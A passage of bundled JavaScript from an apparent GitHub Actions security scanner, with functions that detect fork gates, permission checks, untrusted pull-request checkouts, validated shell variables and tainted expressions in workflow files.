var FORK_TEST = new RegExp(
  String.raw`^(?:[\w.?]+\.head\.repo\??\.full_name\s*!==?\s*${THIS_REPOSITORY}|${THIS_REPOSITORY}\s*!==?\s*[\w.?]+\.head\.repo\??\.full_name|[\w.?]+\.head\.repo\??\.fork(?:\s*===?\s*true)?)$`
);
function stopsForks(job, step) {
  if (step.uses?.name !== "actions/github-script" || step.continueOnError !== void 0 || !runsForOutsiders(job, step)) return false;
  const script = step.with.get("script")?.value?.value ?? "";
  for (const match2 of script.matchAll(/\bif\s*\(((?:[^(){}$]|\$\{[\w.]+\}|\$)*(?:\((?:[^(){}]|\$\{[\w.]+\})*\)(?:[^(){}$]|\$\{[\w.]+\}|\$)*)*)\)\s*\{/g)) {
    const condition = match2[1];
    if (condition.includes("&&")) continue;
    const forked = condition.split("||").some((part) => FORK_TEST.test(part.trim()));
    if (!forked) continue;
    const body = block(script, match2.index + match2[0].length - 1);
    if (body && /core\.setFailed\(|\bthrow\b|process\.exit\(\s*[1-9]/.test(body)) return true;
  }
  return false;
}
function blocksForks(gates) {
  return gates.some((gate) => gate.kind === "same-repository" || gate.kind === "not-fork" || gate.kind === "merged");
}
function pinnedElsewhere(job, events) {
  if (!job.if) return false;
  const expressions = conditionExpressions(job.workflow.file, job.if);
  return expressions.length > 0 && expressions.every((expression) => {
    const pinned = conditionEvents(expression.ast);
    return pinned !== null && !events.some((event) => pinned.has(event.toLowerCase()));
  });
}
function permissionOutputGate(job) {
  if (!job.if) return null;
  for (const expression of conditionExpressions(job.workflow.file, job.if)) {
    for (const node of conjuncts(expression.ast)) {
      if (node.kind !== "binary" || node.op !== "==") continue;
      const context = [node.left, node.right].find((side) => side.kind === "context");
      const literal = [node.left, node.right].map(literalOf).find((value) => value !== void 0);
      const match2 = context ? /^needs\.([\w-]+)\.outputs\.([\w-]+)$/.exec(context.path) : null;
      if (!match2 || literal !== "true" && literal !== true || !job.needs.some((need) => need.value === match2[1])) continue;
      const needed = job.workflow.jobsById.get(match2[1]);
      const output = needed ? [...needed.outputs].find(([key2]) => key2.toLowerCase() === match2[2].toLowerCase())?.[1] : void 0;
      const source = /^\s*steps\.([\w-]+)\.outputs\.([\w-]+)\s*$/.exec(output?.value?.expressions[0]?.body ?? "");
      const step = source ? needed.steps.find((candidate) => candidate.id?.value === source[1]) : void 0;
      const run = step && !step.if && step.continueOnError === void 0 ? step.run?.value ?? "" : "";
      if (!/\/collaborators\/[^\s'"]*\/permission|getCollaboratorPermissionLevel/.test(run)) continue;
      if (writesTrueOnlyForWriters(run, source[2])) return { kind: "author-association", note: `job ${match2[1]} checks that the user has write access` };
    }
  }
  return null;
}
function writesTrueOnlyForWriters(run, name) {
  const lines2 = run.split("\n");
  const writes = lines2.flatMap((line, index) => new RegExp(String.raw`\b${name}=true\b`).test(line) ? [index] : []);
  if (writes.length === 0) return false;
  return writes.every((index) => {
    let at = index - 1;
    while (at >= 0 && !/^\s*(?:if|elif)\b/.test(lines2[at])) {
      if (/^\s*(?:else|fi)\b/.test(lines2[at])) return false;
      at -= 1;
    }
    const test = at >= 0 ? lines2[at] : "";
    return /\b(?:admin|maintain|write)\b/.test(test) && !/\b(?:read|triage|none)\b|!=/i.test(test);
  });
}

// src/workflow/analysis/grades.ts
var GRADES = ["info", "low", "medium", "high", "critical"];
function lower(grade2, steps = 1) {
  return GRADES[Math.max(0, GRADES.indexOf(grade2) - steps)];
}
function maxGrade(a, b) {
  return GRADES.indexOf(a) >= GRADES.indexOf(b) ? a : b;
}
function applyGates(grade2, gates) {
  if (blocksForks(gates)) return "info";
  return lower(grade2, Math.min(2, new Set(gates.map((gate) => gate.kind)).size));
}

// src/workflow/narrowed-output.ts
var SAFE_FIELDS = /* @__PURE__ */ new Set([
  "number",
  "id",
  "node_id",
  "databaseid",
  "sha",
  "oid",
  "login",
  "total_count",
  "totalcount",
  "count",
  "state",
  "status",
  "conclusion",
  "merged",
  "draft",
  "isdraft",
  "locked",
  "author_association",
  "authorassociation",
  "created_at",
  "updated_at",
  "closed_at",
  "merged_at",
  "pushed_at",
  "createdat",
  "updatedat",
  "run_id",
  "run_number",
  "run_attempt",
  "additions",
  "deletions",
  "changed_files",
  "commits",
  "comments"
]);
var PASS_THROUGH = /^(?:head|tail|sort|uniq|wc)(?:\s+-[\w-]+(?:\s+\d+)?)*$/;
function stages(text) {
  const out = [];
  let depth = 0;
  let quote = null;
  let start = 0;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quote) {
      if (c === "\\" && quote === '"') i += 1;
      else if (c === quote) quote = null;
      continue;
    }
    if (c === "'" || c === '"') quote = c;
    else if (c === "\\") i += 1;
    else if (c === "(") depth += 1;
    else if (c === ")") depth -= 1;
    else if (c === "|" && depth === 0) {
      if (text[i + 1] === "|" || text[i - 1] === "|") continue;
      out.push(text.slice(start, i).trim());
      start = i + 1;
    }
  }
  out.push(text.slice(start).trim());
  return out;
}
function jqFilter(stage) {
  const quoted = `(?:'([^']*)'|"((?:[^"\\\\]|\\\\.)*)"|([^\\s'"|;)]+))`;
  const gh = new RegExp(`(?:^|\\s)--jq(?:\\s+|=)${quoted}`).exec(stage);
  const plain = gh ? null : new RegExp(`^jq\\s+(?:-[A-Za-z-]+\\s+)*${quoted}`).exec(stage);
  const match2 = gh ?? plain;
  if (!match2) return null;
  const filter = match2[1] ?? match2[2]?.replace(/\\(["\\$`])/g, "$1") ?? match2[3] ?? "";
  return filter;
}
function withoutSelects(filter) {
  let out = filter;
  for (; ; ) {
    const at = out.indexOf("select(");
    if (at === -1) return out;
    let depth = 0;
    let end = at + "select".length;
    for (; end < out.length; end += 1) {
      if (out[end] === "(") depth += 1;
      else if (out[end] === ")") {
        depth -= 1;
        if (depth === 0) break;
      }
    }
    out = `${out.slice(0, at)}${out.slice(end + 1)}`;
  }
}
function safeJqFilter(filter) {
  const printed = withoutSelects(filter);
  if (/\b(?:keys|to_entries|tostring|tojson|@json|@text|input|inputs|env|\$ENV|ascii|implode|getpath|paths|splits?|sub|gsub|ltrimstr|rtrimstr)\b/.test(printed))
    return false;
  const last = printed.split("|").pop().trim();
  if (last === "" || /^\.(?:\[\d*\])?$/.test(last)) return false;
  const chains = (printed.match(/(?:\.(?:[A-Za-z_][\w-]*|\[\d*\]|"[^"]*"))+/g) ?? []).filter((chain) => /\.[A-Za-z_]/.test(chain));
  if (chains.length === 0) return false;
  return chains.every((chain) => {
    if (/\[\]$/.test(chain)) return false;
    const names = chain.match(/\.([A-Za-z_][\w-]*)/g);
    return SAFE_FIELDS.has(names[names.length - 1].slice(1).toLowerCase());
  });
}
function narrowedOutput(command) {
  let text = command.trim().replace(/^(?:if|then|else|!)\s+/, "");
  const substitution = /^"?\$\(([\s\S]*)\)"?$/.exec(text);
  if (substitution) text = substitution[1].trim();
  text = text.replace(/\s*\d?>>?\s*(?:"[^"]*"|\S+)\s*(?:;\s*then)?\s*$/, "").replace(/\s*2>\s*\/dev\/null/g, "").replace(/\s*\|\|\s*true\s*$/, "");
  if (/^git\s+(?:merge-base|rev-parse)\b[^|;&`]*$/.test(text)) return true;
  const parts = stages(text);
  while (parts.length > 1 && PASS_THROUGH.test(parts[parts.length - 1])) parts.pop();
  const last = parts[parts.length - 1];
  const filter = jqFilter(last);
  return filter !== null && safeJqFilter(filter);
}

// src/workflow/validated-values.ts
var VAR = String.raw`"?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"?`;
var RE = String.raw`('[^'\n]*'|"[^"\n]*"|[^\s'"]+)`;
var FAILS = String.raw`(?:exit\s+[1-9]\d*|\{[^{}]*?\bexit\s+[1-9]\d*\s*;?\s*\})`;
var SAFE_CLASS_CHAR = /^[A-Za-z0-9_./+:@,=-]$/;
var SAFE_POSIX = /* @__PURE__ */ new Set(["alnum", "alpha", "digit", "lower", "upper", "xdigit"]);
var SAFE_ESCAPE = /^\\[dw./+:@,=-]$/;
function narrowingRegex(source) {
  let re = source;
  if (re.startsWith("'") && re.endsWith("'") || re.startsWith('"') && re.endsWith('"')) re = re.slice(1, -1);
  if (!re.startsWith("^") || !re.endsWith("$") || re.endsWith("\\$") || re.length < 3) return false;
  const body = re.slice(1, -1);
  for (let i = 0; i < body.length; i += 1) {
    const c = body[i];
    if (c === "\\") {
      if (!SAFE_ESCAPE.test(body.slice(i, i + 2))) return false;
      i += 1;
      continue;
    }
    if (c === "[") {
      if (body[i + 1] === "^") return false;
      let j = i + 1;
      if (body[j] === "]") return false;
      for (; j < body.length && body[j] !== "]"; j += 1) {
        const d = body[j];
        if (d === "[" && body[j + 1] === ":") {
          const close = body.indexOf(":]", j + 2);
          if (close === -1 || !SAFE_POSIX.has(body.slice(j + 2, close))) return false;
          j = close + 1;
          continue;
        }
        if (d === "\\") {
          if (!SAFE_ESCAPE.test(body.slice(j, j + 2))) return false;
          j += 1;
          continue;
        }
        if (!SAFE_CLASS_CHAR.test(d)) return false;
      }
      if (j >= body.length) return false;
      i = j;
      continue;
    }
    if (/[A-Za-z0-9_/:@,=-]/.test(c) || "+*?(){}|".includes(c)) continue;
    return false;
  }
  return true;
}
function plainPatterns(patterns) {
  return patterns.split("|").every((pattern) => /^(?:[A-Za-z0-9_./+:@,=-]+|"[A-Za-z0-9_./+:@,= -]*"|'[A-Za-z0-9_./+:@,= -]*')$/.test(pattern.trim()));
}
function caseNarrows(body) {
  let fallback = false;
  for (const branch of body.split(";;")) {
    const match2 = /^\s*\(?\s*([^)]*?)\s*\)([\s\S]*)$/.exec(branch);
    if (!match2) {
      if (branch.trim() === "") continue;
      return false;
    }
    if (match2[1] === "*") {
      if (!new RegExp(String.raw`(?:^|[\s;{])exit\s+[1-9]`).test(match2[2])) return false;
      fallback = true;
    } else if (!plainPatterns(match2[1])) return false;
  }
  return fallback;
}
function validatedVariables(script) {
  const out = [];
  const orExit = new RegExp(String.raw`\[\[\s+${VAR}\s+=~\s+${RE}\s+\]\]\s*\|\|\s*${FAILS}`, "g");
  for (const match2 of script.matchAll(orExit)) {
    if (narrowingRegex(match2[2])) out.push({ name: match2[1], end: match2.index + match2[0].length });
  }
  const ifNot = new RegExp(
    String.raw`\bif\s+(?:!\s*\[\[\s+${VAR}\s+=~\s+${RE}\s+\]\]|\[\[\s+!\s+${VAR}\s+=~\s+${RE}\s+\]\])\s*;?\s*then\b([\s\S]*?)\bfi\b`,
    "g"
  );
  for (const match2 of script.matchAll(ifNot)) {
    const name = match2[1] ?? match2[3];
    const re = match2[2] ?? match2[4];
    const body = match2[5].split(/\b(?:else|elif)\b/)[0];
    if (/\bif\b/.test(body) || !new RegExp(String.raw`(?:^|[\s;{])exit\s+[1-9]`).test(body)) continue;
    if (narrowingRegex(re)) out.push({ name, end: match2.index + match2[0].length });
  }
  const ifAny = /\bif\s+\[\[\s([\s\S]*?)\s\]\]\s*;?\s*then\b([\s\S]*?)\bfi\b/g;
  for (const match2 of script.matchAll(ifAny)) {
    const test = match2[1];
    if (test.includes("&&") || !/\|\|/.test(test)) continue;
    const body = match2[2].split(/\b(?:else|elif)\b/)[0];
    if (/\bif\b/.test(body) || !new RegExp(String.raw`(?:^|[\s;{])exit\s+[1-9]`).test(body)) continue;
    for (const part of test.split("||")) {
      const negated = new RegExp(String.raw`^!\s+${VAR}\s+=~\s+${RE}$`).exec(part.trim());
      if (negated && narrowingRegex(negated[2])) out.push({ name: negated[1], end: match2.index + match2[0].length });
    }
  }
  const cases = new RegExp(String.raw`\bcase\s+${VAR}\s+in\b([\s\S]*?)\besac\b`, "g");
  for (const match2 of script.matchAll(cases)) {
    if (caseNarrows(match2[2])) out.push({ name: match2[1], end: match2.index + match2[0].length });
  }
  return out.sort((a, b) => a.end - b.end);
}

// src/workflow/analysis/text.ts
function stepLabelOf(step) {
  return `step ${step.index + 1}${step.uses ? ` (${step.uses.name})` : ""}`;
}

// src/workflow/analysis/untrusted-code.ts
import { posix } from "node:path";
var HEAD_REFS = /(^|\.)(head\.sha|head\.ref|head_ref|merge_commit_sha|head_sha|head_branch|head\.repo\.full_name|head_repository\.full_name)$/;
function envValueAt(name, site) {
  const upper = name.toUpperCase();
  const maps = [site.step?.env, site.job?.env, site.job?.workflow.env, site.action?.runs?.env];
  for (const env of maps) {
    if (!env) continue;
    for (const [key2, entry2] of env) if (key2.toUpperCase() === upper) return entry2.value;
  }
  return null;
}
function scriptOutputIsHead(path14, site) {
  const match2 = /^steps\.([^.]+)\.outputs\.([^.]+)$/.exec(path14);
  if (!match2 || !site.job) return false;
  const [, id, name] = match2;
  const source = site.job.steps.find((step) => step.id?.value.toLowerCase() === id && (!site.step || step.index < site.step.index));
  if (source?.uses?.name !== "actions/github-script") return false;
  const script = source.with.get("script")?.value?.value ?? "";
  const escaped = escapeRegExp(name);
  return new RegExp(String.raw`core\.setOutput\(\s*['"\x60]` + escaped + String.raw`['"\x60]\s*,[^)\n]*\bhead\.(?:sha|ref)\b`, "i").test(script);
}
function refersToHead(str2, tracker, site, depth = 0) {
  if (!str2) return false;
  if (/refs\/pull\//.test(str2.value)) return true;
  for (const expression of str2.expressions) {
    const refs = contextRefs(expression.ast);
    if (refs.some((ref) => HEAD_REFS.test(ref.path))) return true;
    if (/head\.(sha|ref)|head_ref|head_sha|head_branch|merge_commit_sha/i.test(expression.body)) return true;
    const taint = tracker.expressionTaint(expression, site);
    if (taint && taint.level === "arbitrary" && /head|branch/i.test(taint.origin)) return true;
    if (depth < 4) {
      for (const ref of refs) {
        const name = /^env\.([^.]+)$/.exec(ref.path)?.[1];
        if (name && refersToHead(envValueAt(name, site), tracker, site, depth + 1)) return true;
        if (scriptOutputIsHead(ref.path, site)) return true;
      }
    }
  }
  return false;
}
var ARTIFACT_ACTIONS = new Set(ARTIFACT_DOWNLOADERS.map((entry2) => entry2.action));
function untrustedCheckouts(job, tracker) {
  const out = [];
  const events = eventNames(job.workflow);
  for (const step of job.steps) {
    const site = { job, step, action: null };
    const uses = step.uses;
    if (uses?.name === "actions/checkout" || uses?.name.endsWith("/checkout")) {
      const ref = step.with.get("ref")?.value;
      const repository = step.with.get("repository")?.value;
      const path14 = step.with.get("path")?.value?.value;
      const base = { step, kind: "checkout", ...path14 && path14 !== "." && path14 !== "./" ? { path: path14.replace(/^\.\//, "").replace(/\/$/, "") } : {} };
      if (refersToHead(ref, tracker, site)) out.push({ ...base, str: ref, start: 0, end: ref.value.length, what: `checks out ${ref.value.trim()}` });
      else if (refersToHead(repository, tracker, site))
        out.push({ ...base, str: repository, start: 0, end: repository.value.length, what: `checks out the fork ${repository.value.trim()}` });
      continue;
    }
    if (step.run && events.has("workflow_run")) {
      const download = /\bgh\s+run\s+download\b(?:[^\n\\]|\\\n|\\(?!\n))*/.exec(step.run.value);
      const fromRun = download && (/workflow_run|run[-_]id|github\.event/i.test(download[0]) || [...step.env.values()].some((entry2) => /workflow_run/.test(entry2.value?.value ?? "")));
      if (download && fromRun) {
        const dir = /(?:^|\s)(?:-D|--dir)(?:\s+|=)(?:"([^"]+)"|'([^']+)'|(\S+))/.exec(download[0]);
        const path14 = (dir?.[1] ?? dir?.[2] ?? dir?.[3])?.replace(/^\.\//, "").replace(/\/$/, "");
        out.push({
          step,
          kind: "artifact",
          str: step.run,
          start: download.index,
          end: download.index + download[0].trimEnd().length,
          what: `runs \`${download[0].trim().replace(/\s+/g, " ").slice(0, 80)}\``,
          ...path14 && path14 !== "." ? { path: path14 } : {}
        });
        continue;
      }
    }
    if (uses && ARTIFACT_ACTIONS.has(uses.name) && events.has("workflow_run")) {
      const fromRun = [...step.with.values()].some((entry2) => /workflow_run|run[-_]id|github\.event/i.test(entry2.value?.value ?? "")) || uses.name !== "actions/download-artifact";
      if (fromRun)
        out.push({
          step,
          kind: "artifact",
          str: null,
          start: 0,
          end: 0,
          what: `downloads artifacts of the triggering run (${uses.name})`,
          ...step.with.get("path")?.value ? { path: step.with.get("path").value.value.replace(/^\.\//, "") } : {}
        });
      continue;
    }
    if (step.run) {
      const value = step.run.value;
      const pattern = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n;&|]*\bpull\/|\bgit\s+(?:checkout|switch|fetch|pull|reset)\b[^\n;&|]*\$\{\{[^}]*(?:head\.sha|head\.ref|head_ref|merge_commit_sha|head_sha|head_branch)/;
      const match2 = pattern.exec(value);
      if (match2)
        out.push({
          step,
          kind: "git",
          str: step.run,
          start: match2.index,
          end: match2.index + match2[0].length,
          what: `runs \`${match2[0].replace(/\s+/g, " ").slice(0, 80)}\``
        });
    }
  }
  return out;
}
function outsiderInputIn(job, tracker) {
  if (blocksForks(gatesFor(job)) || pinnedElsewhere(job, privilegedUntrustedEvents(job.workflow))) return null;
  const checkout = untrustedCheckouts(job, tracker)[0];
  if (checkout) return `${stepLabelOf(checkout.step)} ${checkout.what}`;
  for (const step of job.steps) {
    const site = { job, step, action: null };
    const strs = [step.run, ...[...step.with.values(), ...step.env.values()].map((entry2) => entry2.value)];
    for (const str2 of strs) {
      for (const expression of str2?.expressions ?? []) {
        if (tracker.expressionTaint(expression, site)?.level === "arbitrary") return `${stepLabelOf(step)} expands \${{ ${expression.body.trim()} }}`;
      }
    }
    if (step.uses?.kind === "local" && !step.uses.reusableWorkflow) return `${stepLabelOf(step)} runs a local action`;
    const local = step.run ? scriptCalls(step.run.value)[0]?.path ?? LOCAL_PROGRAM.exec(step.run.value)?.[1] : void 0;
    if (local) return `${stepLabelOf(step)} runs the local program ${local}`;
  }
  return null;
}
var LOCAL_PROGRAM = /(?:^|[\s;&|(])(?:node|python[\d.]*|ruby|deno(?:\s+run)?|bun|perl|php)\s+(?:-\S+\s+)*((?:\.{1,2}\/)?[\w.-]+\/[\w./-]+\.(?:m?js|cjs|ts|py|rb|pl|php))\b/;
var EXECUTING = new Map(EXECUTING_ACTIONS.map((entry2) => [entry2.action, entry2.note]));
var INSTALLING = byAction(INSTALLING_SETUP_ACTIONS);
function requiresFrom(script, path14) {
  if (!/require\(|import\(/.test(script)) return false;
  if (!path14) return true;
  const calls3 = [...script.matchAll(/\b(?:require|import)\(\s*([^)]*)\)/g)].map((match2) => match2[1].trim());
  return calls3.some((argument) => {
    const literal = /^(['"`])([^'"`$]*)\1$/.exec(argument)?.[2];
    if (literal === void 0) return true;
    if (!/^\.{0,2}\//.test(literal)) return false;
    const clean2 = literal.replace(/^\.\//, "");
    return clean2 === path14 || clean2.startsWith(`${path14}/`);
  });
}
function executionsAfter(job, from, path14) {
  const out = [];
  for (const step of job.steps.slice(from.index + 1)) {
    if (step.uses) {
      if (step.uses.kind === "local" && !step.uses.selfRepository && (!path14 || step.uses.path?.startsWith(path14))) {
        out.push({ step, what: `the local action ${step.uses.raw.trim()} (from the checked-out tree)`, str: null, start: 0, end: 0 });
        continue;
      }
      const setup = INSTALLING.get(step.uses.name);
      const installs = setup !== void 0 && setup.when.test(step.with.get(setup.input)?.value?.value ?? "");
      if (installs && (!path14 || (step.workingDirectory?.value ?? "").includes(path14))) {
        out.push({ step, what: `${step.uses.name} (installs the tree's dependencies, running its build scripts)`, str: null, start: 0, end: 0 });
        continue;
      }
      const known2 = EXECUTING.get(step.uses.name);
      if (known2 && (step.uses.name !== "actions/github-script" || requiresFrom(step.with.get("script")?.value?.value ?? "", path14))) {
        out.push({ step, what: `${step.uses.name} (runs ${known2})`, str: null, start: 0, end: 0 });
        continue;
      }
      continue;
    }
    if (!step.run) continue;
    const run = step.run.value;
    const workingDirectory = (step.workingDirectory?.value ?? job.defaults.workingDirectory?.value ?? "").replace(/^\.\//, "").replace(/\/$/, "");
    const list = path14 ? commands(run) : [];
    for (const exec of codeExecutions(run)) {
      if (path14 && !runsInside(path14, workingDirectory, list, exec.start)) continue;
      out.push({ step, what: `\`${exec.tool}\``, str: step.run, start: exec.start, end: exec.end });
    }
  }
  return out;
}
function runsInside(path14, workingDirectory, list, offset) {
  const under = (dir) => {
    const clean2 = dir.replace(/^["']|["']$/g, "").replace(/^\.\//, "").replace(/\/$/, "");
    return clean2 === path14 || clean2.startsWith(`${path14}/`) || clean2.endsWith(`/${path14}`);
  };
  let inside = under(workingDirectory);
  let cwd = posix.normalize(workingDirectory || ".");
  for (const command of list) {
    if (command.start > offset) break;
    const cd = /^(?:cd|pushd)\s+(\S+)/.exec(command.text);
    if (cd && command.end <= offset) {
      inside = under(cd[1]);
      const target2 = cd[1].replace(/^["']|["']$/g, "");
      cwd = cwd !== null && !/[$~`]/.test(target2) && !target2.startsWith("/") ? posix.normalize(posix.join(cwd, target2)) : null;
    }
    if (command.start <= offset && offset < command.end) {
      const list2 = words(command.text.slice(offset - command.start)).map((w) => w.word);
      const script = list2.slice(1).find((w) => !w.startsWith("-"));
      const interpreter = /^(?:python[0-9.]*|node)$/.test(list2[0] ?? "") && !list2.some((w) => /^-(?:m|c|e|p|r|-require|-import|-eval|-print)$/.test(w));
      const program = interpreter ? script : void 0;
      if (program !== void 0 && cwd !== null && !/[$~`*]/.test(program) && !program.startsWith("/")) {
        const resolved = posix.normalize(posix.join(cwd, program));
        if (!resolved.startsWith("..") && !under(resolved.replace(/\/[^/]*$/, "")) && !under(resolved)) return false;
      }
      const flagged = list2.some(
        (w, i) => /^(-C|--prefix|--cwd|--dir|--project-dir|--manifest-path|-f|--file|-p)$/.test(w) && under(list2[i + 1] ?? "") || /^--(prefix|cwd|dir|project-dir|manifest-path|file)=/.test(w) && under(w.replace(/^[^=]*=/, ""))
      );
      if (under(list2[0]?.replace(/\/[^/]*$/, "") ?? "") || script !== void 0 && under(script.replace(/\/[^/]*$/, "")) || flagged) inside = true;
    }
  }
  return inside;
}

// src/workflow/analysis/output-shape.ts
var SAFE_CHAR = /^[A-Za-z0-9_.\-/:@,=+%]$/;
function safeClass(body) {
  if (body.startsWith("^")) return false;
  for (let i = 0; i < body.length; i += 1) {
    const c = body[i];
    if (c === "\\") {
      const next = body[i + 1] ?? "";
      i += 1;
      if (next === "d" || next === "w" || /^[._\-/:@,=+%]$/.test(next)) continue;
      return false;
    }
    if (c === "[" && body.startsWith("[:", i)) {
      const end = body.indexOf(":]", i);
      if (end === -1 || !/^\[:(alnum|alpha|digit|upper|lower|xdigit):\]$/.test(body.slice(i, end + 2))) return false;
      i = end + 1;
      continue;
    }
    if (!SAFE_CHAR.test(c)) return false;
  }
  return true;
}
function classEnd(source, open) {
  for (let i = open + 1; i < source.length; i += 1) {
    if (source[i] === "\\") i += 1;
    else if (source.startsWith("[:", i)) {
      const end = source.indexOf(":]", i + 2);
      if (end === -1) return -1;
      i = end + 1;
    } else if (source[i] === "]" && i > open + 1) return i;
  }
  return -1;
}
function safePattern(source) {
  if (source === "") return false;
  for (let i = 0; i < source.length; i += 1) {
    const c = source[i];
    if (c === "\\") {
      const next = source[i + 1] ?? "";
      i += 1;
      if (next === "d" || next === "w" || next === "b" || /^[._\-/:@,=+%]$/.test(next)) continue;
      return false;
    }
    if (c === "[") {
      const end = classEnd(source, i);
      if (end === -1 || !safeClass(source.slice(i + 1, end))) return false;
      i = end;
      continue;
    }
    if (c === "(" && source.startsWith("(?:", i)) {
      i += 2;
      continue;
    }
    if ("()|^$+*?".includes(c)) continue;
    if (c === ".") return false;
    if (c === "{") {
      const end = source.indexOf("}", i);
      if (end === -1 || !/^\{\d*,?\d*\}$/.test(source.slice(i, end + 1))) return false;
      i = end;
      continue;
    }
    if (!SAFE_CHAR.test(c)) return false;
  }
  return true;
}
function captureGroup(source, group) {
  if (group === 0) return source;
  let count = 0;
  for (let i = 0; i < source.length; i += 1) {
    if (source[i] === "\\") {
      i += 1;
      continue;
    }
    if (source[i] !== "(" || source.startsWith("(?", i)) continue;
    count += 1;
    if (count !== group) continue;
    let depth = 0;
    for (let j = i; j < source.length; j += 1) {
      if (source[j] === "\\") j += 1;
      else if (source[j] === "(") depth += 1;
      else if (source[j] === ")" && (depth -= 1) === 0) return source.slice(i + 1, j);
    }
    return null;
  }
  return null;
}
var JS_REGEX = String.raw`\/((?:[^/\\\n[]|\\.|\[(?:[^\]\\\n]|\\.)*\])+)\/[dgimsuy]*`;
function jsValueShape(value, script) {
  const v = value.trim();
  if (/^JSON\.stringify\(/.test(v)) return "json";
  const removed = new RegExp(String.raw`\.replace(?:All)?\(\s*\/\[\^((?:[^\]\\]|\\.)*)\]\+?\/g[a-z]*\s*,\s*(['"\x60])\2\s*\)\s*$`).exec(v);
  if (removed && safeClass(removed[1])) return "restricted";
  const inline = new RegExp(String.raw`(?:\.match\(\s*${JS_REGEX}\s*\)|${JS_REGEX}\.exec\([^)]*\))(?:\s*\|\|\s*\[\s*\]\s*\))?\s*(?:\?\.)?\[(\d+)\]$`).exec(v);
  if (inline) {
    const group2 = captureGroup(inline[1] ?? inline[2], Number(inline[3]));
    return group2 !== null && safePattern(group2) ? "restricted" : null;
  }
  const indexed = /^([A-Za-z_$][\w$]*)(?:\?\.)?\[(\d+)\]$/.exec(v);
  if (!indexed) return null;
  const assignment = new RegExp(
    String.raw`(?:const|let|var)\s+${escapeRegExp(indexed[1])}\s*=\s*(?:[^;\n]*\.match\(\s*${JS_REGEX}\s*\)|${JS_REGEX}\.exec\()`
  ).exec(script);
  if (!assignment) return null;
  const group = captureGroup(assignment[1] ?? assignment[2], Number(indexed[2]));
  return group !== null && safePattern(group) ? "restricted" : null;
}
function callArgument(text, from) {
  let depth = 0;
  let quote = null;
  for (let i = from; i < text.length; i += 1) {
    const c = text[i];
    if (quote) {
      if (c === "\\") i += 1;
      else if (c === quote) quote = null;
      continue;
    }
    if (c === "'" || c === '"' || c === "`") quote = c;
    else if (c === "/" && /[(,=:]\s*$/.test(text.slice(from, i))) {
      const match2 = new RegExp(JS_REGEX, "y");
      match2.lastIndex = i;
      if (match2.exec(text)) i = match2.lastIndex - 1;
    } else if (c === "(" || c === "[" || c === "{") depth += 1;
    else if (c === ")" || c === "]" || c === "}") {
      if (depth === 0) return text.slice(from, i);
      depth -= 1;
    } else if (c === "," && depth === 0) return text.slice(from, i);
  }
  return null;
}
function scriptOutputShape(script, name) {
  const setter = new RegExp(String.raw`core\.setOutput\(\s*(['"\x60])` + escapeRegExp(name) + String.raw`\1\s*,`, "gi");
  let shape = null;
  for (const match2 of script.matchAll(setter)) {
    const value = callArgument(script, (match2.index ?? 0) + match2[0].length);
    const one = value === null ? null : jsValueShape(value, script);
    if (!one) return null;
    shape = shape === "json" || one === "json" ? "json" : "restricted";
  }
  return shape;
}
function shellValueShape(text) {
  const grep = /\|\s*grep\s+(?:-[A-Za-z]*\s+)*?-[A-Za-z]*o[A-Za-z]*\s+(?:-[A-Za-z]+\s+)*(?:'([^']*)'|"([^"$`\\]*)")\s*\)/.exec(text);
  if (grep && safePattern(grep[1] ?? grep[2])) return "restricted";
  const tr = /\|\s*tr\s+-(?:dc|cd)\s+(?:'([^']*)'|"([^"$`\\]*)"|([\w:[\]-]+))\s*\)/.exec(text);
  if (tr && safeClass(tr[1] ?? tr[2] ?? tr[3])) return "restricted";
  if (/\|\s*jq\s+(?:-[A-Za-z]+\s+)*-[A-Za-z]*c[A-Za-z]*\b[^|)]*\)/.test(text)) return "json";
  return null;
}

// src/workflow/analysis/taint.ts
var TAINT_RANK = { arbitrary: 4, structured: 3, dynamic: 2, input: 1 };
function stronger(a, b) {
  if (!a) return b;
  if (!b) return a;
  return TAINT_RANK[b.level] > TAINT_RANK[a.level] ? b : a;
}
function through(taint, hop) {
  return taint ? { ...taint, via: [...taint.via, hop] } : null;
}
var UNTRUSTED_COMMAND = /\bgit\s+log\b.*(%s|%b|%B|--format|--pretty)|\bgit\s+show\b.*(%s|%b|%B)|\bgh\s+pr\s+view\b|\bgh\s+issue\s+view\b|\bgh\s+api\b.*(pulls|issues|comments)|\bjq\b.*\b(title|body|head\.ref|message|head_branch)\b|\$GITHUB_EVENT_PATH|\$\{GITHUB_EVENT_PATH\}/;
function inertOutput(script, name) {
  const setter = new RegExp(String.raw`core\.setOutput\(\s*(['"\x60])` + escapeRegExp(name) + String.raw`\1\s*,`, "gi");
  let found = false;
  for (const match2 of script.matchAll(setter)) {
    const value = callArgument(script, (match2.index ?? 0) + match2[0].length);
    if (value === null || !inertValue(value.trim())) return false;
    found = true;
  }
  return found;
}
var LITERAL = /^(?:true|false|null|-?\d+(?:\.\d+)?|'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|`[^`$\\]*`)$/;
var NUMBER = /^(?:Number|parseInt|parseFloat|Math\.\w+)\([^?]*\)$|^[\w.$]+\.length$/;
var YES_NO = /===|!==|\.(?:includes|startsWith|endsWith|test|some|every|has)\(|^!/;
function inertValue(value) {
  if (LITERAL.test(value) || NUMBER.test(value)) return true;
  return YES_NO.test(value) && !/\?|\|\||&&/.test(value);
}
var PAYLOAD_TEXT = /context\.payload\.(?:pull_request|issue|comment|review|discussion|head_commit)\.(?:title|body|head\.ref|message|head\.label)\b|context\.payload\.comment\.body|\.data\.(?:title|body)\b/;
var READS_FILE = /\$\(\s*<|\b(cat|head|tail|jq|yq|sed|awk|cut|tr|xargs|unzip\s+-p|base64)\b[^|;&]*\s[\w./-]*\w/;
function inputIsInert(workflow, action, name) {
  const defs = workflow ? workflow.triggers.flatMap((t) => t.inputs.has(name) ? [t.inputs.get(name)] : []) : action?.inputs.has(name) ? [action.inputs.get(name)] : [];
  if (defs.length === 0) return false;
  return defs.every((def) => def.type === "boolean" || def.type === "number" || def.type === "choice" || def.type === "environment");
}
var RUNNER_VARIABLES = /* @__PURE__ */ new Map([
  ["GITHUB_HEAD_REF", "github.head_ref"],
  ["GITHUB_REF_NAME", "github.ref_name"],
  ["GITHUB_REF", "github.ref"]
]);
var TaintTracker = class {
  constructor(model) {
    this.model = model;
  }
  model;
  jobOutputsMemo = /* @__PURE__ */ new Map();
